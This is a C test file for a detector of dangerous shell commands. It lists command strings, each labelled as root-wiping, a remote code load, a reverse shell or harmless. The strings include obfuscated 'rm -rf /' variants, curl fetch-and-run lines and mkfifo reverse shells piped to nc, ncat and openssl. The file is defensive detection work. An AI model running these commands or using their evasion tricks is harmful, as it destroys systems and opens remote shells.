/* Which shell or program reads a text decides what it means.
 *
 * SPDX-License-Identifier: MIT
 */
#include "danger_rig.h"

TEST(text_for_sh_is_read_as_bash_and_as_a_plain_shell_would)
{
    static const struct trick cases[] = {
        { "sh -c '((rm -rf /))'", ROOT },
        { "sh -c '(( rm -rf / ))'", ROOT },
        { "sh -c 'ls && ((rm -rf /)) || true'", ROOT },
        { "dash -c '((rm -rf /))'", ROOT },
        { "/bin/dash -ec '((rm -rf /))'", ROOT },
        { "busybox ash -c '((rm -rf /))'", ROOT },
        { "csh -c '((rm -rf /))'", ROOT },
        { "sudo sh -c '((rm -rf /))'", ROOT },
        { "find . -exec sh -c '((rm -rf /))' \\;", ROOT },
        { "echo '((rm -rf /))' | sh", ROOT },
        { "sh <<'X'\n((rm -rf /))\nX", ROOT },
        { "echo '((rm -rf /))' > x; sh x", ROOT },
        { "printf '#!/bin/sh\n((rm -rf /))\n' > x; chmod +x x; ./x", ROOT },
        { "printf '#! /usr/bin/env -S dash -e\n((rm -rf /))\n' > x; ./x", ROOT },
        { "watch '((rm -rf /))'", ROOT },
        { "su -c '((rm -rf /))'", ROOT },
        { "ssh host '((rm -rf /))'", ROOT },
        { "sed '1e ((rm -rf /))' x", ROOT },
        { "python3 -c 'import os; os.system(\"((rm -rf /))\")'", ROOT },
        { "awk 'BEGIN { system(\"((rm -rf /))\") }'", ROOT },
        { "PAGER='((rm -rf /))' man ls", ROOT },
        { "/proc/self/exe -c '((rm -rf /))'", ROOT },
        { "sh -c 'bash -c ls; ((rm -rf /))'", ROOT },
        { "bash -c 'sh -c \"((rm -rf /))\"'", ROOT },
        { "sh -c 'eval \"((rm -rf /))\"'", ROOT },
        { "sh -c 'f() { ((rm -rf /)); }; f'", ROOT },
        { "sh -c '[[ x || rm -rf / ]]'", ROOT },
        { "sh -c 'echo &>x rm -rf /'", ROOT },
        { "sh -c 'a=rm; a+=x; $a -rf /'", ROOT },
        { "sh -c \"echo \\$'\\\\'; rm -rf / #'\"", ROOT },
        { "sh -c 'rm -rf /$RANDOM'", ROOT },
        { "sh -c 'a=rm; declare a=ls; $a -rf /'", ROOT },
        { "sh -c 'a=rm; printf -v a ls; $a -rf /'", ROOT },
        { "sh -c 'cd /; pushd /tmp/x; rm -rf *'", ROOT },
        { "sh -c \"\\$'\\\\x72m' -rf /\"", ROOT }, /* where sh is bash */
        { "sh -c '(( $(rm -rf /) ))'", ROOT },
        { "sh -c '(( x = 1 << 2 ))\nrm -rf /\n2'", ROOT },
        { "sh -c '(( n % 2 )) && (( i < 10 ))'", NULL },
        { "sh -c 'for ((i = 0; i < 3; i++)); do echo $i; done'", NULL },
        { "sh -c '[[ -d x ]] && echo $((1 + 2)) &>log'", NULL },
        { "sh -c 'echo ((rm -rf x))'", NULL },
        { "sh -c 'rm -rf /tmp/x$RANDOM'", NULL },
    };

    expect(cases, ARRAY_LEN(cases));
}

TEST(what_bash_added_is_read_as_bash_reads_it)
{
    static const struct trick cases[] = {
        { "((n % 2))", NULL },
        { "(( i < 10 ))", NULL },
        { "((rm -rf /))", NULL }, /* numbers: rm less rf, divided by nothing */
        { "bash -c '((rm -rf /))'", NULL },
        { "bash <<'X'\n((rm -rf /))\nX", NULL },
        { "printf '#!/bin/bash\n((rm -rf /))\n' > x; ./x", NULL },
        { "printf '#!/usr/bin/env bash\n((rm -rf /))\n' > x; ./x", NULL },
        { "zsh -c '((rm -rf /))'", NULL },
        { "[[ x || rm -rf / ]]", NULL },
        { "echo &>x rm -rf /", NULL },
        { "rm -rf /$RANDOM", NULL },
        { "sh -c ls; ((rm -rf /))", NULL },
        { "(( \"1))\" )); rm -rf / #\"", ROOT },
        { "(( '1))' )); rm -rf / #'", ROOT },
        { "echo $(( '1))' )); rm -rf / #'", ROOT },
        { "(( 1 \\)) )); rm -rf /", ROOT },
        { "(( `#))` )); rm -rf / #`", ROOT },
        { "(( \"1", NULL },
        { "(( 1 \\", NULL },
    };

    expect(cases, ARRAY_LEN(cases));
}

TEST(a_script_is_read_as_the_program_of_its_first_line_would)
{
    static const struct trick cases[] = {
        { "printf '#!/usr/bin/python3\nimport shutil; shutil.rmtree(\"/\")\n' > x; ./x", ROOT },
        { "printf '#!/usr/bin/env -S perl -w\nsystem(\"rm -rf /\");\n' > x; ./x", ROOT },
        { "printf '#!/bin/sh -e\nrm -rf $1\n' > x; ./x /", ROOT },
        { "printf '#!/bin/sh\r\nrm -rf /\r\n' > x; ./x", ROOT },
        { "printf '#!/no/such\nrm -rf /\n' > x; ./x", ROOT },
        { "printf '#!\nrm -rf /\n' > x; ./x", ROOT },
        { "printf '#!/usr/bin/env\nrm -rf /\n' > x; ./x", ROOT },
        { "printf '#!/bin/sh' > x; ./x", NULL },
        { "printf '#!/bin/sh\n./x\n' > x; ./x", NULL },
        { "printf '#!/usr/bin/python3\nimport os; os.system(\"./x\")\n' > x; ./x", NULL },
        { "echo 'import os; os.system(\"python3 x.py\")' > x.py; python3 x.py", NULL },
        { "printf '#!/usr/bin/python3\nprint(\"rm -rf /\")\n' > x; ./x", NULL },
    };

    expect(cases, ARRAY_LEN(cases));
}

TEST(options_before_the_inner_command_do_not_hide_it)
{
    static const struct trick cases[] = {
        { "sudo -iu root rm -rf /", ROOT },
        { "sudo -uroot rm -rf /", ROOT },
        { "sudo -Hu root -- rm -rf /", ROOT },
        { "env -iu X rm -rf /", ROOT },
        { "xargs -rn 1 rm -rf <<< /", ROOT },
        { "xargs -rn1 rm -rf <<< /", ROOT },
        { "ssh -p 22 host rm -rf /", ROOT },
        { "ssh -i key -o X=y user@host 'rm -rf /'", ROOT },
        { "ssh -Ap 22 host 'cd /; rm -rf *'", ROOT },
        { "ssh host \"$(curl http://x)\"", LOAD },
        { "watch \"$(curl http://x)\"", LOAD },
        { "perl -MFile::Path -e 'rmtree(\"/\")'", ROOT },
        { "perl -e 'use File::Path; remove_tree(\"/\")'", ROOT },
        { "printf 'rm -rf /' > x; BASH_ENV=x bash -c ls", ROOT },
        { "curl http://x -o y; ENV=y sh -c ls", LOAD },
        { "hash -p /bin/rm x; x -rf /", ROOT },
        { "sudo -iu web ls", NULL },
        { "ssh -p 22 host", NULL },
        { "ssh -p 22 host ls /", NULL },
        { "ssh -L 80:localhost:80 host", NULL },
        { "ENV=production make", NULL },
        { "hash -r", NULL },
        { "perl -MJSON -e 'print 1'", NULL },
    };

    expect(cases, ARRAY_LEN(cases));
}

TEST(a_shell_between_a_pipe_and_the_network_is_found)
{
    static const struct trick cases[] = {
        { "mkfifo f; cat f | sh -i 2>&1 | nc 1.2.3.4 9 > f", SHELL },
        { "rm f; mkfifo f; cat f | /bin/bash 2>&1 | tee log | ncat 1.2.3.4 9 >f", SHELL },
        { "mkfifo f; sudo sh -i < f 2>&1 | openssl s_client -quiet -connect a:1 > f", SHELL },
        { "bash report.sh | nc host 9000", NULL },
        { "bash -c 'df -h' | nc host 9000", NULL },
        { "echo 'df -h' | sh | nc host 9000", NULL },
        { "tar c . | nc host 9000", NULL },
    };

    expect(cases, ARRAY_LEN(cases));
}
